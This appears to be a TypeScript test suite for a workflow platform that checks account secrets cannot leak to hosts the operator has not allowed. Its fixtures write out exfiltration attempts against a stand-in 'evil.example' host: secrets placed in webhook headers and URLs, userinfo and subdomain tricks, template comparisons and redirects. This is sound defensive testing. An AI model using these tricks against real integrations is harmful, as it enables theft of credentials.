import { AccountSecretsService } from '../../../src/accounts/account-secrets.service';
import type { Scope } from '../../../src/api/auth/caller';
import type { Definition } from '../../../src/workflows/model/definition.types';
import type { PublishError } from '../../../src/workflows/model/publish-error.types';
import type { Api } from '../../support/api';
import type { TestApp } from '../../support/app';
import { anEnabledForm, aSubmission, etagOf } from '../../support/forms';
import { Receiver } from '../../support/receiver';
import { aPublishedForm, aRun, aRunOf, aTest, startRunningApp } from '../../support/runs';
import { aDefinition, aDraft, aFanOut, aNode, aVersion, aWebhook, readWorkflow, START, STORE, workflowPath } from '../../support/workflows';

let app: TestApp;
/** The host that the operator allows: 127.0.0.1. The other one is reached as localhost. */
let crm: Receiver;
let evil: Receiver;
beforeAll(async () => {
  [crm, evil] = await Promise.all([Receiver.start(), Receiver.start()]);
  app = await startRunningApp();
  await secrets().set(app.accountId, 'CRM', CANARY, ['127.0.0.1']);
  await secrets().set(app.accountId, 'OLD', CANARY);
});
beforeEach(() => {
  crm.reset();
  evil.reset();
});
afterAll(async () => {
  await app.close();
  await Promise.all([crm.close(), evil.close()]);
});

const CANARY = 'canary-of-the-account';
const secrets = () => app.app.get(AccountSecretsService);
const evilUrl = (path = '/') => evil.url(path).replace('127.0.0.1', 'localhost');
const TOKEN = { 'X-Token': '{{ secrets.CRM }}' };
const OLD_TOKEN = { 'X-Token': '{{ secrets.OLD }}' };

/** A form, and what somebody can do who has a key for it alone. */
async function aSmallKey(definition?: Definition): Promise<{ form: { id: string }; api: Api }> {
  const form = definition
    ? await aPublishedForm(app, definition)
    : await anEnabledForm(app.api, { fields: [{ name: 'email', type: 'string' }] });
  const scopes: Scope[] = ['forms:read', 'forms:update', 'workflows:read', 'workflows:write', 'workflows:publish', 'workflows:test'];
  const key = await app.key({ scopes, formIds: [form.id] });
  return { form, api: app.api.as(key) };
}

/** The codes and paths with which publishing and testing refuse a draft; both say the same. */
async function faultsOf({ form, api }: { form: { id: string }; api: Api }, definition: Definition): Promise<string[]> {
  await aDraft(api, form, definition);
  const answers = [
    await api.post(`${workflowPath(form)}/publish`, undefined, { ifMatch: '*' }),
    await api.post(`${workflowPath(form)}/test`, { source: 'sample' }, { ifMatch: '*' }),
  ];
  expect(answers.map(({ status }) => status)).toEqual([422, 422]);
  const [published, tested] = answers.map(({ body }) => {
    const { items } = body.error!.details as { items: PublishError[] };
    return items.map(({ code, path }) => `${code} ${path}`);
  });
  expect(tested).toEqual(published);
  return published!;
}

describe('a key for one form', () => {
  const REFUSED: [string, () => Definition, RegExp][] = [
    ['a header to its own host', () => aFanOut(aWebhook('a', { url: evilUrl(), headers: TOKEN })), /^host_not_allowed config\.headers/],
    [
      'the same in another case and with a dot',
      () => aFanOut(aWebhook('a', { url: evilUrl().replace('localhost', 'LOCALHOST.'), headers: TOKEN })),
      /^host_not/,
    ],
    ['a subdomain', () => aFanOut(aWebhook('a', { url: 'https://127.0.0.1.evil.example/', headers: TOKEN })), /^host_not/],
    ['an IPv6 literal', () => aFanOut(aWebhook('a', { url: 'https://[2606:4700::1111]/', headers: TOKEN })), /^host_not/],
    ['an international name', () => aFanOut(aWebhook('a', { url: 'https://１２７.０.０.１.example/', headers: TOKEN })), /^host_not/],
    [
      'the allowed host as a user',
      () => aFanOut(aWebhook('a', { url: 'https://127.0.0.1@evil.example/', headers: TOKEN })),
      /^blocked_url.*|host_not/,
    ],
    [
      'the address of a chat',
      () => aFanOut(aNode('a', 'slack', { url: `${evilUrl()}{{ secrets.CRM }}` })),
      /^host_not_allowed config\.url/,
    ],
    [
      'a comparison',
      () => aFanOut(aWebhook('a', { url: evilUrl(), headers: { X: '{% if secrets.CRM > "m" %}a{% endif %}' } })),
      /^host_not/,
    ],
    [
      'a question at the allowed host',
      () => aFanOut(aWebhook('a', { url: crm.url(), headers: { X: '{% if secrets.CRM > "m" %}a{% endif %}' } })),
      /^invalid_config/,
    ],
    [
      'a body',
      () => aFanOut(aWebhook('a', { url: evilUrl(), body: { mode: 'template', template: '"{{ secrets.CRM }}"' } })),
      /^invalid_config/,
    ],
    ['an address', () => aFanOut(aWebhook('a', { url: `${evilUrl()}{{ secrets.CRM }}` })), /^invalid_config/],
    [
      'a step before',
      () =>
        aDefinition(
          [
            START,
            aNode('s', 'set_fields', { set: { x: '{{ secrets.CRM }}' } }),
            aWebhook('a', { url: evilUrl(), headers: { X: '{{ fields.x }}' } }),
          ],
          'start>s',
          's>a',
        ),
      /^invalid_config config\.set\.x/,
    ],
    ['a mail', () => aFanOut(aNode('a', 'email', { to: ['me@evil.example'], subject: '{{ secrets.CRM }}' })), /^invalid_config/],
    ['a secret without hosts', () => aFanOut(aWebhook('a', { url: evilUrl(), headers: OLD_TOKEN })), /^host_not/],
    [
      'one without hosts as an address',
      () => aFanOut(aNode('a', 'discord', { url: '{{ secrets.OLD }}' })),
      /^host_not_allowed config\.url/,
    ],
  ];

  it.each(REFUSED)('cannot publish or test a draft with a secret in %s', async (_, definition, fault) => {
    const small = await aSmallKey();
    const faults = await faultsOf(small, definition());
    expect(faults[0]).toMatch(fault);
    expect((await readWorkflow(app.api, small.form)).published).toBeNull();
  });

  it('cannot lead a secret without hosts from where the published version sends it to elsewhere', async () => {
    const small = await aSmallKey(aFanOut(aWebhook('crm', { url: crm.url(), headers: OLD_TOKEN })));
    expect(await faultsOf(small, aFanOut(aWebhook('crm', { url: evilUrl(), headers: OLD_TOKEN })))).toEqual([
      'host_not_allowed config.headers.X-Token',
    ]);
    await aSubmission(app.api, small.form);
    await aRunOf(app, small.form).then((run) => run.reach('succeeded'));
    expect(evil.connections).toBe(0);
    expect(crm.requests.map(({ headers }) => headers['x-token'])).toContain(CANARY);
  });

  it('publishes what the operator allows, and what the published version does already', async () => {
    const { form, api } = await aSmallKey(aFanOut(STORE, aWebhook('old', { url: crm.url('/old'), headers: OLD_TOKEN })));
    await secrets().set(app.accountId, 'CRM_URL', crm.url('/chat'), ['127.0.0.1']);
    const old = aWebhook('old', { url: crm.url('/new'), headers: OLD_TOKEN });
    await aVersion(
      api,
      form,
      aFanOut(old, aWebhook('crm', { url: crm.url('/crm'), headers: TOKEN }), aNode('chat', 'slack', { url: '{{ secrets.CRM_URL }}' })),
    );
    const run = await aRunOf(app, form);
    await run.reach('succeeded');
    expect(crm.requests.map(({ path }) => path).sort()).toEqual(['/chat', '/crm', '/new']);
  });

  it('cannot have a provider asked with a secret that is not for it', async () => {
    const { form, api } = await aSmallKey();
    const patch = async (by: Api, secret_name: string) =>
      by.patch<{ spam: object }>(
        `/v1/forms/${form.id}/settings`,
        { spam: { siteverify: { level: 'require', provider: 'turnstile', site_key: 'x', secret_name } } },
        { ifMatch: await etagOf(app.api, form) },
      );
    for (const name of ['CRM', 'OLD']) {
      const answer = await patch(api, name);
      expect(answer.status).toBe(422);
      expect(JSON.stringify(answer.body.error!.details)).toContain('spam.siteverify.secret_name');
    }
    expect((await patch(app.api, 'CRM')).status).toBe(422);
    expect((await patch(app.api, 'OLD')).status).toBe(200);
    const renamed = await api.patch(
      `/v1/forms/${form.id}/settings`,
      { spam: { siteverify: { level: 'off', provider: 'hcaptcha' } } },
      { ifMatch: await etagOf(app.api, form) },
    );
    expect(renamed.status).toBe(422);
    expect((await patch(api, 'OLD')).status).toBe(200);
  });
});

describe('a secret with hosts', () => {
  it.each([
    ['the address of a chat', () => aNode('a', 'slack', { url: '{{ secrets.LEADS_AWAY }}' })],
    ['an address that another secret begins', () => aNode('a', 'discord', { url: '{{ secrets.ANYWHERE }}{{ secrets.CRM }}' })],
    ['a host with the secret in it', () => aNode('a', 'slack', { url: 'http://{{ secrets.CRM }}.localhost/' })],
    ['a user in front of another host', () => aNode('a', 'slack', { url: 'http://{{ secrets.IP }}@localhost/{{ secrets.CRM }}' })],
    ['no address', () => aNode('a', 'slack', { url: '{{ secrets.CRM }}' })],
  ])('is not sent to another host in %s, whoever has published it: the step fails and nobody is called', async (_, node) => {
    await secrets().set(app.accountId, 'LEADS_AWAY', evilUrl(), ['127.0.0.1']);
    await secrets().set(app.accountId, 'ANYWHERE', evilUrl());
    await secrets().set(app.accountId, 'IP', '127.0.0.1');
    const run = await aRun(app, aFanOut(node()));
    await run.reachStep('a', 'failed');
    const { error_code, output } = await run.step('a');
    expect(error_code).toBe('host_not_allowed');
    expect(JSON.stringify(output)).toMatch(/The secret (?:CRM|LEADS_AWAY) must not be sent/);
    expect(JSON.stringify(await run.detail())).not.toMatch(/canary|localhost:\d/);
    expect([evil.connections, crm.requests.length]).toEqual([0, 0]);
  });

  it('is not sent any more once its hosts are others, nor by a retry', async () => {
    await secrets().set(app.accountId, 'MOVING', CANARY, ['127.0.0.1']);
    crm.answers({ status: 400 });
    const form = await aPublishedForm(app, aFanOut(aWebhook('a', { url: crm.url(), headers: { X: '{{ secrets.MOVING }}' } })));
    const run = await aRunOf(app, form);
    await run.reach('failed');
    expect(crm.requests).toHaveLength(1);
    await secrets().setHosts(app.accountId, 'MOVING', ['crm.example.com']);
    const again = await run.repeated();
    expect(await again.reach('failed')).toMatchObject({ error_code: 'host_not_allowed' });
    expect(crm.requests).toHaveLength(1);
  });

  it('does not follow a redirect of its host', async () => {
    crm.answers({ status: 307, headers: { location: evilUrl('/take') } });
    const run = await aRun(app, aFanOut(aWebhook('a', { url: crm.url(), headers: TOKEN })));
    expect(await run.reach('failed')).toMatchObject({ error_code: 'redirect_refused' });
    expect(evil.connections).toBe(0);
  });

  it('takes the port of the error where it is refused', async () => {
    await secrets().set(app.accountId, 'LEADS_AWAY', evilUrl(), ['127.0.0.1']);
    const nodes = [START, aNode('a', 'slack', { url: '{{ secrets.LEADS_AWAY }}' }), STORE];
    const run = await aRun(app, aDefinition(nodes, 'start>a', 'a:error>store'));
    await run.reach('succeeded');
  });

  it('stays masked in a test, which sends nothing', async () => {
    const test = await aTest(app, aFanOut(aWebhook('a', { url: crm.url(), headers: TOKEN })));
    await test.reach('succeeded');
    expect(JSON.stringify(await test.detail())).not.toContain('canary');
    expect(crm.requests).toEqual([]);
  });
});
